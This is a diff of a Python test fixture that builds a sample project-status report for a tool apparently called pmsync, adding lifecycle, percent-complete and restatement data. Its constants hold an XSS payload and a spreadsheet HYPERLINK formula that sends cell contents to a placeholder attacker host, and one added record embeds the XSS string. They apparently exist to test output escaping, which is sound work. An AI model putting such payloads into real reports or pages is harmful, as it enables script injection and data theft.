@@ -8,6 +8,7 @@ from decimal import Decimal
 from pmsync.model import SourceRef
 from pmsync.reconcile import results as r
 from pmsync.report import model as m
+from pmsync.report.exceptions import group_exceptions
 
 XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
@@ -227,6 +228,10 @@ def web_measures() -> r.ProjectMeasures:
             forecast_at_completion=Decimal("50000"),
         ),
         rag=_rag("green", "green", "green", "green", "green"),
+        lifecycle="closing",
+        lifecycle_basis="derived: all 12 detail items done, actual finish 2026-11-20",
+        percent_complete=100.0,
+        percent_complete_basis="detail items done ÷ detail items (by count)",
     )
 
 
@@ -296,6 +301,7 @@ def sample_report() -> m.Report:
                 note="last synced 10 days before the report",
             ),
         ],
+        exception_groups=group_exceptions(erp_measures().exceptions),
         changes=[
             m.Change(
                 project="ERP",
@@ -303,7 +309,17 @@ def sample_report() -> m.Report:
                 text="Cutover slipped 12 working days",
                 before="2026-12-01",
                 after="2026-12-17",
-            )
+            ),
+            m.Change(
+                project="ERP",
+                kind="restatement",
+                text="Actuals for 2026-10 restated since the last report: they fell by USD 49,856.28",
+                before="49856.28",
+                after="0.00",
+                amount=Decimal("-49856.28"),
+                period="2026-10",
+                records=["finance_file:ledger:INV-1 " + XSS],
+            ),
         ],
     )
     web = m.ProjectSection(key="WEB", name="Public website", measures=web_measures(), trend="unchanged")
@@ -345,6 +361,9 @@ def sample_report() -> m.Report:
             budget=Decimal("50000"),
             actual=Decimal("20000"),
             forecast=Decimal("50000"),
+            lifecycle="closing",
+            percent_complete=100.0,
+            percent_complete_basis="detail items done ÷ detail items (by count)",
         ),
     ]
     return m.Report(
